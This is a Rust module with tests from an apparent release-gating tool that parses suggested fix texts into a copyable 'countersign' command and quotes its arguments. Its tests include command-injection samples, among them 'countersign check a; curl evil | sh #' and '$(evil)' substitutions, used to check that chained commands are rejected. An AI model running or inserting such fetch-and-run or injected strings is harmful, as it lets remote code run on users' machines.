//! What would change an answer, taken apart: what to see to first, the command, and what else would do.
//!
//! A rule's fix is one text, since its author writes one. Its convention: a command begins with `countersign `, at the
//! beginning or after a colon (`build it again, and there: countersign provenance …`); what follows `; or` or `; and`
//! is said beside it. A text without a command is a sentence for whoever it concerns.

use std::borrow::Cow;

use crate::domain::digest::Digest;
use crate::domain::facts::is_signature;
use crate::domain::model::is_model_signature;
use crate::domain::names::{EnvironmentName, ProjectName};
use crate::domain::shell;
use crate::domain::statement::predicate_type::TEST_RESULT_V0_1;

/// How each command of this program begins.
const PROGRAM: &str = "countersign ";
/// What stands between a sentence and its command.
const COLON: &str = ": ";
/// The verbs that make evidence, and the flag that gives it to a gate.
const SIGNS: [&str; 4] = ["sign", "attest", "provenance", "smoke"];
const GIVES: &str = " --give";
/// What ends a command within a text.
const ENDS: [&str; 2] = ["; or", "; and"];

/// What a person fills in, and with what: every word in capitals that a command of the gate or of a pack that comes with
/// it holds. A test reads them out of all packs.
pub const PLACEHOLDERS: [(&str, &str); 11] = [
    ("CMD", "what shows that it works, such as: ./app --version"),
    ("DIR", "a directory"),
    ("DURATION", "how long, such as 24h or 3d"),
    ("FILE", "a file; after --signer somebody's public key, such as builder=keys/ci.pub"),
    ("GATE.pub", "the public key of the gate that is believed"),
    ("INCIDENT", "the number of the incident, in your own records"),
    (
        "KEY",
        "the private key of somebody whom the rule accepts, or your own for an override; in CI leave --key away, the \
         job's identity signs",
    ),
    ("MANIFEST.json", "the manifest as the registry has it, byte for byte"),
    ("NAME", "what the check is called; under the name it had, the new result replaces the old one"),
    ("TEXT", "why, in your words"),
    (
        "URI",
        "as provenance has it: after --source the repository, after --builder the builder's id, which for one made by hand is \
         urn:countersign:builder/local/v1",
    ),
];

/// What a rule is said to expect where nobody is named whose signature it could accept: first somebody has to be.
pub const NO_SIGNATURE_COUNTS: &str = "so that no signature can count";

/// What would change an answer.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Fix<'a> {
    /// What to see to before the command, or instead of one; empty when there is nothing.
    pub first: &'a str,
    /// A command of this program that can be copied once its placeholders are filled in.
    pub command: Option<Cow<'a, str>>,
    /// What would do as well, or is to be done too; each a sentence.
    pub beside: Vec<&'a str>,
}

impl<'a> Fix<'a> {
    /// Takes the text of a fix apart.
    #[must_use]
    pub fn parse(text: &'a str) -> Self {
        let begins = if text.starts_with(PROGRAM) {
            Some(0)
        } else {
            let after_colon = text.match_indices(COLON).map(|(at, colon)| at.saturating_add(colon.len()));
            let mut commands = after_colon.filter(|at| text.get(*at..).is_some_and(|rest| rest.starts_with(PROGRAM)));
            commands.next()
        };
        let Some((before, rest)) = begins.and_then(|at| text.split_at_checked(at)) else {
            return Self { first: text, command: None, beside: Vec::new() };
        };
        let end = ENDS.iter().filter_map(|mark| rest.find(mark)).min().unwrap_or(rest.len());
        let (command, after) = rest.split_at_checked(end).unwrap_or((rest, ""));
        let beside = after.split("; ").map(without_conjunction).filter(|sentence| !sentence.is_empty()).collect();
        Self {
            first: before.trim_end().trim_end_matches(':'),
            command: Some(Cow::Borrowed(command.trim_end())),
            beside,
        }
    }

    /// Whether the command asks the gate about `subject` and `environment` again: then nothing is to be done before but
    /// what [`Self::first`] says.
    #[must_use]
    pub fn asks_again(&self, subject: Digest, environment: &EnvironmentName) -> bool {
        self.command
            .as_deref()
            .and_then(promotion)
            .is_some_and(|(of, to)| to == environment.as_str() && of.ends_with(&subject.to_string()))
    }

    /// The same for a subject that has no place in a registry: evidence about it is given to the gate by the command that
    /// makes it, whatever came of that. A file in between would stand in the way of the next time, and a result that is bad
    /// would stay in it.
    #[must_use]
    pub fn kept_apart(mut self) -> Self {
        self.command = self.command.map(|command| {
            let verb = command.split_whitespace().nth(1).unwrap_or_default();
            match command.split_once(" --key KEY") {
                Some((before, after)) if SIGNS.contains(&verb) => {
                    Cow::Owned(format!("{before} --key KEY{GIVES}{after}"))
                }
                _ => command,
            }
        });
        self
    }

    /// The same about `whole`, where the command is about `part`.
    #[must_use]
    pub fn about(mut self, part: Digest, whole: Digest) -> Self {
        self.command = self.command.map(|command| Cow::Owned(command.replace(&part.to_string(), &whole.to_string())));
        self
    }
}

/// Whether `command` asks for a promotion.
#[must_use]
pub fn promotes(command: &str) -> bool {
    promotion(command).is_some()
}

/// The subject and environment of a command that asks for a promotion.
fn promotion(command: &str) -> Option<(&str, &str)> {
    let (subject, environment) = command.trim_end().strip_prefix("countersign promote ")?.rsplit_once(" --to ")?;
    let subject = match subject.strip_prefix("--project ") {
        Some(rest) => rest.split_once(' ')?.1,
        None => subject,
    };
    // In quotes a place may have blanks in it; anything else that has is more than one subject.
    let one = subject.starts_with('\'') || !subject.contains(char::is_whitespace);
    (one && !environment.contains(char::is_whitespace)).then_some((subject, environment))
}

/// The commands whose answer is one project's.
const ASKS_A_PROJECT: [&str; 4] =
    ["countersign promote ", "countersign check ", "countersign override request ", "countersign evidence add "];

/// `text` with every command in it asking `project`, where that is not the one that is asked anyway.
#[must_use]
pub fn in_project(text: &str, project: &ProjectName) -> String {
    if *project == ProjectName::default() {
        return text.to_owned();
    }
    // What is signed is no project's, but where it is given to one.
    let gives = format!("{GIVES} --project {project}");
    let text = text.replace(&gives, GIVES).replace(GIVES, &gives);
    ASKS_A_PROJECT.iter().fold(text, |text, command| {
        let named = format!("{command}--project ");
        // What names one already is left as it is.
        let text = text.replace(&named, command).replace(command, &format!("{named}{project} "));
        text.replace(&format!("{named}{project} {project} "), &format!("{named}{project} "))
    })
}

/// `text` with what lies at `name` named as a shell needs it.
#[must_use]
pub fn quoting(text: &str, name: &str) -> String {
    let quoted = shell::argument(name);
    if name.is_empty() || quoted == name {
        return text.to_owned();
    }
    // What is quoted already holds the bare name within.
    let (bare, whole) = (format!(" {name}@sha256:"), format!(" {quoted}@sha256:"));
    text.replace(&bare, &whole)
}

/// Whether a command could do anything else in a shell than be run: of a text by nobody knows whom, only such are shown.
#[must_use]
pub fn is_one_command(text: &str) -> bool {
    let fix = Fix::parse(text);
    fix.command.is_none_or(|command| !command.contains([';', '|', '&', '`', '$', '<', '>', '(', ')', '\\', '\n', '\r']))
}

/// `text` with the name of the check that `found` speaks of, where it names one in backticks: of several, the first that
/// did not pass. Under another name a new result stands beside the old one, and replaces nothing.
#[must_use]
pub fn naming(text: &str, found: &str) -> String {
    match check_in(found) {
        Some(name) if text.contains("countersign smoke ") => text.replace(" --name NAME ", &format!(" --name {name} ")),
        _ => text.to_owned(),
    }
}

/// The check that `found` names, if its name is one that a shell leaves as it is.
fn check_in(found: &str) -> Option<&str> {
    fn named(clause: &str) -> Vec<&str> {
        clause.split('`').skip(1).step_by(2).collect()
    }
    let bad = found.split("; ").find(|clause| clause.starts_with('`') && !clause.contains("` PASSED at "));
    let name = match (bad, named(found).as_slice()) {
        (Some(clause), _) => *named(clause).first()?,
        (None, [one]) => one,
        (None, _) => return None,
    };
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '/');
    (!name.is_empty() && !name.starts_with('-') && name.chars().all(plain)).then_some(name)
}

fn without_conjunction(sentence: &str) -> &str {
    let sentence = sentence.trim_start_matches(';').trim();
    let sentence = sentence.strip_prefix("or").or_else(|| sentence.strip_prefix("and")).unwrap_or(sentence);
    sentence.trim_start_matches([',', ' '])
}

/// The placeholders that `command` holds, each with what it stands for, in the order of the table.
pub fn placeholders(command: &str) -> impl Iterator<Item = (&'static str, &'static str)> {
    PLACEHOLDERS
        .into_iter()
        .filter(move |(name, _)| command.split(|c: char| c.is_whitespace() || c == '=').any(|word| word == *name))
}

/// Whether `command` makes evidence of this predicate type: then evidence of that type which did not count is what its
/// reader wonders about.
#[must_use]
pub fn makes(command: &str, predicate_type: &str) -> bool {
    let mut words = command.split_whitespace().skip(1);
    match words.next() {
        Some("sign") => is_signature(predicate_type) || is_model_signature(predicate_type),
        Some("provenance") => predicate_type.starts_with("https://slsa.dev/provenance/"),
        Some("smoke") => predicate_type == TEST_RESULT_V0_1,
        Some("attest") => {
            let mut after = words.skip_while(|word| *word != "--type").skip(1);
            after.next().is_some_and(|named| named == predicate_type)
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn a_command_names_its_project_once_and_its_place_in_quotes() {
        let other: ProjectName = "other".parse().unwrap();
        let fix = "wait: countersign promote x@sha256:a --to y; or give it: countersign evidence add M";
        let named = in_project(fix, &other);
        let expected = "wait: countersign promote --project other x@sha256:a --to y; or give it: countersign evidence add \
                        --project other M";
        assert_eq!(named, expected);
        assert_eq!(in_project(&named, &other), named);
        assert_eq!(in_project(fix, &ProjectName::default()), fix);
        let quoted = quoting("countersign promote oci:a b;c@sha256:d --to y", "oci:a b;c");
        assert_eq!(quoted, "countersign promote 'oci:a b;c'@sha256:d --to y");
        assert_eq!(quoting(&quoted, "oci:a b;c"), quoted);
        assert!(promotes(&quoted) && promotes(&in_project(&quoted, &other)));
        assert!(!promotes("countersign promote a b --to y"));
    }

    #[test]
    fn what_does_more_than_one_command_is_not_taken_for_one() {
        assert!(is_one_command("countersign promote a --to b; or give it: countersign evidence add M"));
        for text in ["countersign check a; curl evil | sh #", "countersign check $(x)", "countersign check a && b"] {
            assert!(!is_one_command(text), "{text}");
        }
    }

    fn parts(text: &str) -> (&str, Option<String>, Vec<&str>) {
        let Fix { first, command, beside } = Fix::parse(text);
        (first, command.map(Cow::into_owned), beside)
    }

    #[test]
    fn a_fix_is_what_to_see_to_first_a_command_and_what_else_would_do() {
        let command = |text: &str| Some(text.to_owned());
        assert_eq!(parts("countersign sign A --key KEY"), ("", command("countersign sign A --key KEY"), vec![]));
        assert_eq!(
            parts("build it again, and there: countersign provenance A; or add the builder to the pack"),
            ("build it again, and there", command("countersign provenance A"), vec!["add the builder to the pack"])
        );
        assert_eq!(
            parts("name it; or give it: countersign evidence add M; or, if only files: unseen = true; and more"),
            (
                "name it; or give it",
                command("countersign evidence add M"),
                vec!["if only files: unseen = true", "more"]
            )
        );
        assert_eq!(parts("wait until it is over"), ("wait until it is over", None, vec![]));
        assert_eq!(parts(""), ("", None, vec![]));
        // A program's own semicolons are its own.
        let smoke = "countersign smoke A -- sh -c 'a; b'";
        assert_eq!(parts(smoke), ("", command(smoke), vec![]));
        assert_eq!(parts("ask countersign who").1, None);
    }

    #[test]
    fn the_check_that_failed_is_the_one_that_is_run_again() {
        let smoke = "countersign smoke A --name NAME --key KEY -- CMD";
        for (found, name) in [
            ("`api` PASSED at T; `web` FAILED at T", "web"),
            ("`greets` PASSED without any time", "greets"),
            ("smoke test `greets` of T, 30 h ago", "greets"),
            ("smoke test `api`, `web` of T, 30 h ago", "NAME"),
            ("`api` PASSED at T; `web` PASSED at T", "NAME"),
            ("no smoke test", "NAME"),
            ("FAILED at T", "NAME"),
            ("`$(evil)` FAILED at T", "NAME"),
            ("`a b` FAILED at T", "NAME"),
            ("`--key` FAILED at T", "NAME"),
            ("` FAILED at T", "NAME"),
        ] {
            assert_eq!(naming(smoke, found), smoke.replace("NAME", name), "{found}");
        }
        let other = "attest A --name NAME --key KEY";
        assert_eq!(naming(other, "`web` FAILED at T"), other);
    }

    #[test]
    fn evidence_about_what_has_no_place_goes_through_a_file() {
        let smoke = Fix::parse("countersign smoke A --key KEY -- CMD").kept_apart();
        assert_eq!(smoke.command.unwrap(), "countersign smoke A --key KEY --give -- CMD");
        let other: ProjectName = "other".parse().unwrap();
        let named = in_project("countersign smoke A --key KEY --give -- CMD", &other);
        assert_eq!(named, "countersign smoke A --key KEY --give --project other -- CMD");
        assert_eq!(in_project(&named, &other), named);
        let promote = Fix::parse("countersign promote A --to staging");
        assert_eq!(promote.clone().kept_apart(), promote);
    }

    #[test]
    fn only_the_same_question_is_asked_again() {
        let (app, other) = (Digest::of(b"app"), Digest::of(b"other"));
        let production = "production".parse().unwrap();
        let text = format!("wait, and ask again: countersign promote registry.example.com/app@{app} --to production");
        assert!(Fix::parse(&text).asks_again(app, &production));
        assert!(!Fix::parse(&text).asks_again(other, &production));
        assert!(!Fix::parse(&text.replace("production", "staging")).asks_again(app, &production));
        assert!(!Fix::parse("countersign sign x").asks_again(app, &production));
    }

    #[test]
    fn what_a_command_makes_is_known_by_its_verb_and_type() {
        assert!(makes("countersign sign A --key KEY", "https://sigstore.dev/cosign/sign/v1"));
        assert!(makes("countersign provenance A", "https://slsa.dev/provenance/v0.2"));
        assert!(makes("countersign smoke A -- CMD", TEST_RESULT_V0_1));
        assert!(makes("countersign attest A --type urn:x --predicate p", "urn:x"));
        assert!(!makes("countersign attest A --type urn:x --predicate p", "urn:y"));
        assert!(!makes("countersign promote A --to b", ""));
    }

    proptest! {
        /// A renderer shows what it is given: nothing of the text may be lost on the way.
        #[test]
        fn no_word_of_a_fix_is_lost(words in prop::collection::vec("[a-z]{1,6}|countersign|;|:|or,", 0..12)) {
            let text = words.join(" ").replace(" ;", ";").replace(" :", ":");
            let Fix { first, command, beside } = Fix::parse(&text);
            let shown = format!("{first} {} {}", command.unwrap_or_default(), beside.join(" "));
            for word in text.split([' ', ';', ':', ',']).filter(|word| !["", "or", "and"].contains(word)) {
                prop_assert!(shown.contains(word), "`{word}` of `{text}` in `{shown}`");
            }
        }
    }
}
